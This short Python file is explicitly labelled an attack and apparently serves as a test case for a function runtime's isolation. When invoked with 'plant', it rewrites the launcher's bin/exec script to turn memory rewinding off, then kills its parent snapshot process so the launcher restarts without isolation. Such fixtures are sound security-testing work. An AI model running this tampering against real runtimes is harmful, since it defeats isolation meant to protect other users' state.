"""Attack: rewrite bin/exec so that a restarted launcher serves without isolation, then
kill the snapshot process so that the proxy restarts the launcher."""

import os
import signal

COUNT = 0


def main(args):
    global COUNT
    COUNT += 1
    if args.get("plant"):
        # The launcher's cwd is the action's bin/ directory, which holds bin/exec.
        with open("exec") as fh:
            lines = fh.read().splitlines(keepends=True)
        lines.insert(1, "export REWIND_MEMORY=none\n")
        with open("exec.new", "w") as fh:
            fh.writelines(lines)
        os.chmod("exec.new", 0o755)
        os.replace("exec.new", "exec")
        os.kill(os.getppid(), signal.SIGKILL)  # the snapshot process (fork and inplace)
    return {"count": COUNT}
